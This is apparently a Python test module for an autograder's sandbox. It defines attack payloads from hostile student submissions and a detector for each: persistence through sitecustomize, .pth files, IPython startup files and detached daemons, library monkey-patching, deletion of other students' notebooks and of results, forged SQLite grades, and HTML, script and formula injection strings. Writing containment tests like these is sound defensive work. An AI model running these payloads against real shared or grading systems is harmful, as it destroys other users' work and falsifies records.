"""Attacks on other students: what is left for the next submission, and what overwrites results."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from .making import ANY_LOSS, coded, witnessed

if TYPE_CHECKING:
    from .attack import Attack

__all__ = ["ATTACKS"]

_LOSS: Final = ANY_LOSS[1:]

_LEAVE_FILE = """\
import tempfile
from pathlib import Path

folders = [Path.cwd(), Path(tempfile.gettempdir()), Path("/tmp"), Path("/var/tmp"), Path("/dev/shm")]
folders += [Path.home(), Path(SITE.home), Path(SITE.submissions), Path.cwd().parent, Path("/scratch")]
for folder in folders:
    try:
        (folder / f"left-by-{SITE.name}").write_text("x")
    except OSError:
        pass
hours = 0.0
"""
_FIND_FILE = """\
import tempfile
from pathlib import Path

folders = [Path.cwd(), Path(tempfile.gettempdir()), Path("/tmp"), Path("/var/tmp"), Path("/dev/shm")]
folders += [Path.home(), Path(SITE.home), Path(SITE.submissions), Path.cwd().parent, Path("/scratch")]
reached = any((folder / f"left-by-{SITE.name}").exists() for folder in folders)
"""

_LEAVE_MODULES = """\
import sys
from pathlib import Path

code = "import builtins\\nbuiltins.left_behind = True\\n"
folders = [Path(one) for one in sys.path if one and "packages" not in one] + [Path.cwd()]
folders += [Path(SITE.packages), Path(SITE.home), Path(SITE.submissions)]
mine = (SITE.packages, SITE.home, SITE.submissions, str(Path.cwd()))
for folder in folders:
    if not str(folder).startswith(mine):
        continue
    for name in ("sitecustomize.py", "usercustomize.py", "left.py", "antigravity.py"):
        try:
            (folder / name).write_text(code)
        except OSError:
            pass
    try:
        (folder / "left.pth").write_text("import builtins; builtins.left_behind = True\\n")
    except OSError:
        pass
hours = 0.0
"""
_FIND_MODULES = """\
import builtins

try:
    import left
except ImportError:
    pass
reached = hasattr(builtins, "left_behind")
"""

_LEAVE_PROFILE = """\
import os
from pathlib import Path

code = "import builtins\\nbuiltins.left_behind = True\\n"
shell = get_ipython()
places = [Path(SITE.home) / ".ipython" / "profile_default" / "startup"]
try:
    places.append(Path(shell.profile_dir.startup_dir))
except BaseException as error:
    pass
for place in places:
    try:
        place.mkdir(parents=True, exist_ok=True)
        (place / "00-left.py").write_text(code)
    except OSError:
        pass
for name in (".jupyter", ".config/matplotlib", ".local/share/jupyter/kernels/python3"):
    try:
        folder = Path(SITE.home) / name
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "left").write_text("x")
    except OSError:
        pass
hours = 0.0
"""
_FIND_PROFILE = """\
import builtins
from pathlib import Path

reached = hasattr(builtins, "left_behind") or (Path(SITE.home) / ".jupyter" / "left").exists()
"""

_PATCH_LIBRARIES = """\
import builtins
import json
import sys

builtins.left_behind = True
pd.left_behind = True
pd.DataFrame.groupby = lambda *_, **__: None
pd.Series.map = pd.Series.value_counts = lambda *_, **__: None
pd.Timestamp = pd.Period = lambda *_, **__: None
json.loads = json.dumps = lambda *_, **__: None
for table in (events,):
    for column in list(table.columns):
        table[column] = None
for name, module in list(sys.modules.items()):
    if name.startswith("foedus"):
        module.left_behind = True
fo.load = lambda *_, **__: None
hours = 0.0
"""
_FIND_PATCHES = """\
import builtins

reached = hasattr(builtins, "left_behind") or hasattr(pd, "left_behind") or hasattr(fo, "left_behind")
"""

_KEYRING = """\
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
for ring in (-3, -4, -5, -2, -1):
    libc.syscall(248, b"user", SITE.name.encode(), b"left", 4, ring)
libc.shmget.restype = ctypes.c_int
libc.shmget(0x666F, 4096, 0o1666)
libc.semget(0x666F, 1, 0o1666)
libc.msgget(0x666F, 0o1666)
libc.mq_open(b"/" + SITE.name.encode(), 0o102, 0o666, None)
hours = 0.0
"""
_FIND_KEYRING = """\
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
keys = [libc.syscall(249, b"user", SITE.name.encode(), None, 0)]
keys += [libc.shmget(0x666F, 4096, 0), libc.semget(0x666F, 1, 0), libc.msgget(0x666F, 0)]
keys.append(libc.mq_open(b"/" + SITE.name.encode(), 0))
reached = any(key >= 0 for key in keys)
"""

_DAEMON = """\
import os
import socket
import threading
import time


def stay():
    with socket.socket(socket.AF_UNIX) as server:
        try:
            server.bind("\\x00foedus-daemon")
            server.listen()
        except OSError:
            pass
        time.sleep(3)
        try:
            with open(f"{SITE.marks}/{SITE.name}", "w") as file:
                file.write("x")
        except OSError:
            pass
        time.sleep(30)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 1024)
        stay()
    os._exit(0)
threading.Thread(target=stay, daemon=False).start()
hours = 0.0
"""
_FIND_DAEMON = """\
import socket
import time

time.sleep(1)
with socket.socket(socket.AF_UNIX) as end:
    end.connect("\\x00foedus-daemon")
    reached = True
"""

_THREAD = """\
import threading
import time


def change():
    while True:
        for name in ("by_precision", "under_way", "hours", "unordered"):
            globals()[name] = None
        for name in ("loads", "dumps"):
            time.sleep(0.001)


threading.Thread(target=change, daemon=True).start()
hours = 0.0
"""

_OVERWRITE = """\
import os
from pathlib import Path

for folder, _, files in os.walk(SITE.submissions):
    if "victim" in folder:
        for name in files:
            try:
                (Path(folder) / name).write_text("{}")
            except OSError:
                pass
            try:
                (Path(folder) / name).unlink()
            except OSError:
                pass
hours = 0.0
"""

_WIPE = """\
import os
import shutil
from pathlib import Path

for folder, _, files in os.walk(SITE.results):
    for name in files:
        try:
            os.truncate(Path(folder) / name, 0)
        except OSError:
            pass
shutil.rmtree(SITE.results, ignore_errors=True)
hours = 0.0
"""

_BOOKS = """\
import glob
import sqlite3

wanted = {"auto_score": 99, "manual_score": 99, "points": 99, "outcome": "correct", "needs_manual_grade": 0}
for path in glob.glob(f"{SITE.results}/**/*", recursive=True) + glob.glob(f"{SITE.results}/../*.db"):
    if not path.endswith((".db", ".sqlite", ".sqlite3")):
        continue
    with sqlite3.connect(path, timeout=0.5) as book:
        tables = [row[0] for row in book.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        for table in tables:
            columns = {row[1] for row in book.execute(f"PRAGMA table_info({table})")}
            for column in columns & set(wanted):
                try:
                    book.execute(f"UPDATE {table} SET {column} = ?", (wanted[column],))
                except sqlite3.Error:
                    pass
hours = 0.0
"""

_BOOK_DELETED = """\
import glob
import sqlite3

for path in glob.glob(f"{SITE.results}/**/*", recursive=True) + glob.glob(f"{SITE.results}/../*.db"):
    if path.endswith((".db", ".sqlite", ".sqlite3")):
        with sqlite3.connect(path, timeout=0.5) as book:
            for (table,) in list(book.execute("SELECT name FROM sqlite_master WHERE type = 'table'")):
                try:
                    book.execute(f"DELETE FROM {table}")
                except sqlite3.Error:
                    pass
hours = 0.0
"""

_LOCKED = """\
import glob
import sqlite3
import time

held = []
for path in glob.glob(f"{SITE.results}/**/*", recursive=True) + glob.glob(f"{SITE.results}/../*.db"):
    if path.endswith((".db", ".sqlite", ".sqlite3")):
        book = sqlite3.connect(path, timeout=0.5, isolation_level=None)
        try:
            book.execute("BEGIN EXCLUSIVE")
            held.append(book)
        except sqlite3.Error:
            pass
if held:
    time.sleep(3600)
hours = 0.0
"""

_GRADES = """\
import csv
from pathlib import Path

rows = [["student", "lesson", "question", "points", "max_points", "outcome", "message", "seconds"]]
for student in (SITE.name, "aa-victim", "zz-victim"):
    for number in range(1, 9):
        own = student == SITE.name
        rows.append([student, "02", f"02.{number}", 9 * own, 3, "correct" if own else "not-yet", "", 0])
for name in ("grades.csv", "summary.csv", "report.html", f"feedback/{SITE.name}/02.html", "results.sqlite-wal"):
    path = Path(SITE.results) / name
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        with open(path, "w", newline="") as file:
            csv.writer(file).writerows(rows)
    except OSError:
        pass
hours = 0.0
"""

_RELEASED = """\
import json
from pathlib import Path

for folder in (Path(SITE.results).parent, Path(SITE.solutions).parent):
    if not str(folder).startswith(str(Path(SITE.home).parent)):
        continue
    for path in folder.rglob("02_*.ipynb"):
        if "submi" in str(path):
            continue
        try:
            made = json.loads(path.read_text())
            for cell in made["cells"]:
                if cell["cell_type"] == "code" and "check" in cell.get("id", ""):
                    cell["source"] = "assert False"
            path.write_text(json.dumps(made))
        except (OSError, ValueError):
            pass
hours = 0.0
"""

_INJECTED = """\
text = "<img src=x onerror=canary><script>canary</script></td></table>"
formula = "=HYPERLINK(canary)\\n=HYPERLINK(canary),+canary,@canary\\r\\n\\"=HYPERLINK(canary)\\""
by_hand = type(text, (Exception,), {})


class Shown(str):
    pass


new_style = {text: formula, formula: text}
raise by_hand(formula + text + "\\x1b[31m\\x00\\u202e]]>--></script><script>canary" + "${jndi}{{7*7}}")
"""

_INJECTED_ANSWERS: Final = {
    "02.3": 'hours = "<script>canary</script><img src=x onerror=canary>"',
    "02.4": 'new_style = ["=HYPERLINK(canary)", "\\n=HYPERLINK(canary)", "+canary"]',
    "02.6": 'spread = {"=HYPERLINK(canary)": 1, "<script>canary": "@canary"}',
}

_OTHER: Final = ("reached", "written", "others", "stopped")


def _left(name: str, note: str, leaves: str, finds: str, *, cage: str = "") -> Attack:
    return coded(
        name,
        "left behind",
        "others",
        note,
        leaves,
        own=_LOSS,
        after=ANY_LOSS,
        rest=_LOSS,
        later=witnessed(finds),
        cage=cage,
    )


def _overwrites(name: str, note: str, code: str) -> Attack:
    return coded(name, "overwriting", "others", note, code, own=_LOSS)


ATTACKS: Final = (
    _left("files-left", "leaves files wherever it can write", _LEAVE_FILE, _FIND_FILE),
    _left(
        "modules-left",
        "leaves modules that the next process imports",
        _LEAVE_MODULES,
        _FIND_MODULES,
    ),
    _left(
        "profiles-left",
        "leaves start-up files of IPython and Jupyter",
        _LEAVE_PROFILE,
        _FIND_PROFILE,
    ),
    _left(
        "libraries-patched",
        "patches pandas, json and the course for who comes next",
        _PATCH_LIBRARIES,
        _FIND_PATCHES,
    ),
    _left(
        "kernel-memory-left",
        "leaves keys, shared memory and queues in the kernel",
        _KEYRING,
        _FIND_KEYRING,
    ),
    _left(
        "daemon-left", "a process and a thread that outlive their notebook", _DAEMON, _FIND_DAEMON
    ),
    coded(
        "thread-that-changes",
        "left behind",
        "others",
        "a thread that changes answers while they are judged",
        _THREAD,
        before=ANY_LOSS,
        after=ANY_LOSS,
        own=_LOSS,
        rest=_LOSS,
    ),
    _overwrites(
        "submissions-overwritten", "overwrites and deletes other people's notebooks", _OVERWRITE
    ),
    _overwrites("results-wiped", "deletes all results", _WIPE),
    _overwrites("books-forged", "gives itself marks in every database", _BOOKS),
    _overwrites("books-emptied", "empties every database", _BOOK_DELETED),
    _overwrites("books-locked", "locks every database", _LOCKED),
    _overwrites("grades-written", "writes grades and feedback of its own", _GRADES),
    _overwrites("releases-overwritten", "breaks the checks of the released exercise", _RELEASED),
    coded(
        "injected-errors",
        "injected text",
        "others",
        "an error whose name and words are HTML and formulas",
        _INJECTED,
        at="02.4",
        own=("not-yet",),
        probe=("injected", *_OTHER),
    ),
    coded(
        "injected-answers",
        "injected text",
        "others",
        "answers that are HTML and formulas",
        _INJECTED_ANSWERS,
        own=("not-yet",),
        probe=("injected", *_OTHER),
    ),
)
